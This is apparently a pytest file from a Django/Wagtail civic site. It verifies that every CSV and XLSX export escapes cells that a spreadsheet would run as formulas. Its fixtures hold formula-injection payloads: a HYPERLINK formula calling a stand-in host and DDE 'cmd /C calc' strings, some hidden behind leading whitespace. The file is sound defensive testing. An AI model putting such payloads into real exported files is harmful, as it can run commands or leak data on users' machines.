"""No CSV or XLSX the site serves holds a cell a spreadsheet would run as a formula.

Three layers: the helper itself; every spreadsheet export of Wagtail's admin (found
by walking the URLconf for views built on ``SpreadsheetExportMixin``), fed a user
whose full name and a page whose title are formulas; and the project's own CSV
views, found by grepping the source for ``text/csv`` so a new one cannot be added
without a test here.
"""

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import URLPattern, URLResolver, get_resolver
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.log_actions import log

from civic.core.csv import is_formula_like, safe_cell, writer
from content.models import AreaKind

from ..conftest import add_area, make_user

HOSTILE = '=HYPERLINK("http://evil.example/?x","x")'
HOSTILE_VALUES = [
    HOSTILE,
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u00a0=1+1",
]
ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize("value", HOSTILE_VALUES)
def test_formula_cells_become_text(value):
    assert safe_cell(value) == "'" + value
    assert not is_formula_like(safe_cell(value))


@pytest.mark.parametrize(
    "value", ["Nguyễn Văn A", "", "a=b", "0905 000 001", 12, -3, None, 1.5]
)
def test_other_cells_are_unchanged(value):
    assert safe_cell(value) == value


def test_writer_neutralises_every_cell():
    buffer = io.StringIO()
    writer(buffer).writerow([HOSTILE, "ok", 7])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == [
        "'" + HOSTILE,
        "ok",
        "7",
    ]


# --- Wagtail's exports -------------------------------------------------------------


def export_views():
    """(url, view class) of every parameterless URL whose view exports spreadsheets."""
    found = []

    def walk(patterns, prefix):
        for p in patterns:
            if isinstance(p, URLResolver):
                walk(p.url_patterns, prefix + str(p.pattern))
            elif isinstance(p, URLPattern):
                cls = getattr(p.callback, "view_class", None)
                route = prefix + str(p.pattern)
                if (
                    cls
                    and issubclass(cls, SpreadsheetExportMixin)
                    and "<" not in route
                    and "(?P" not in route
                    and not route.endswith("results/")
                ):
                    found.append(("/" + route.lstrip("^").rstrip("$"), cls))

    walk(get_resolver().url_patterns, "")
    return found


def assert_csv_safe(text):
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert cells
    bad = [cell for cell in cells if is_formula_like(cell)]
    assert not bad, bad
    return cells


def xlsx_cells(content):
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.fixture
def hostile_history(tree):
    villain = make_user(HOSTILE, "0905666666")
    page = add_area(tree.commune_a, HOSTILE, AreaKind.RESIDENTIAL_GROUP, "to-doc")
    log(instance=page, action="wagtail.edit", user=villain)
    log(instance=page, action="wagtail.lock", user=villain)
    page.locked, page.locked_by = True, villain
    page.save()
    return villain


def test_site_history_csv_neutralises_a_hostile_full_name(
    client, tree, hostile_history
):
    client.force_login(tree.admin)
    response = client.get("/quan-tri/reports/site-history/?export=csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    cells = assert_csv_safe(b"".join(response.streaming_content).decode())
    assert "'" + HOSTILE in cells


def test_site_history_xlsx_has_no_formula(client, tree, hostile_history):
    client.force_login(tree.admin)
    response = client.get("/quan-tri/reports/site-history/?export=xlsx")
    assert response.status_code == 200
    cells = xlsx_cells(b"".join(response.streaming_content))
    assert [c for c in cells if c.data_type == "f"] == []
    assert HOSTILE in [c.value for c in cells]  # kept, as text


def test_every_wagtail_export_is_neutralised(client, tree, hostile_history):
    views = export_views()
    urls = [url for url, _ in views]
    assert "/quan-tri/reports/site-history/" in urls, urls
    assert "/quan-tri/reports/aging-pages/" in urls, urls
    client.force_login(tree.admin)
    seen_hostile = False
    for url, _cls in views:
        response = client.get(url, {"export": "csv"})
        assert response.status_code == 200, url
        body = b"".join(response.streaming_content).decode()
        if body.strip():
            seen_hostile |= "'" + HOSTILE in assert_csv_safe(body)
        response = client.get(url, {"export": "xlsx"})
        assert response.status_code == 200, url
        cells = xlsx_cells(b"".join(response.streaming_content))
        assert [c.coordinate for c in cells if c.data_type == "f"] == [], url
    assert seen_hostile


# --- the project's CSVs ------------------------------------------------------------

PROJECT_DIRS = ["civic", "content", "realtime", "search", "config"]


def project_sources():
    for folder in PROJECT_DIRS:
        for path in sorted((ROOT / folder).rglob("*.py")):
            if "migrations" not in path.parts:
                yield path


def test_project_csv_goes_through_the_helper():
    """Every module that serves CSV writes it with ``civic.core.csv``; the raw
    ``csv.writer``/``DictWriter`` appear only in the helper and in commands that
    write files the site does not serve."""
    serving, raw = [], []
    for path in project_sources():
        source = path.read_text()
        rel = path.relative_to(ROOT).as_posix()
        if "text/csv" in source:
            serving.append(rel)
        if re.search(r"(?<![\w.])_?csv\.(writer|DictWriter)\(", source):
            raw.append(rel)
    assert serving == ["civic/polls/views.py"], (
        "a new CSV view: add it to test_project_csv_views_neutralise_cells",
        serving,
    )
    assert [r for r in raw if "/management/commands/" not in r] == ["civic/core/csv.py"]


def test_project_csv_views_neutralise_cells(client, tree):
    from civic.polls.models import Choice

    from ..polls.conftest import make_poll

    poll = make_poll(tree.group_1, title=HOSTILE, labels=(HOSTILE, "@cmd", "-1"))
    assert Choice.objects.filter(poll=poll).count() == 3
    client.force_login(tree.leader_1)
    response = client.get(f"/binh-chon/{poll.pk}/ket-qua.csv")
    assert response.status_code == 200
    cells = assert_csv_safe(response.content.decode("utf-8-sig"))
    assert cells.count("'" + HOSTILE) == 2  # the title and a choice
    assert "'@cmd" in cells and "'-1" in cells
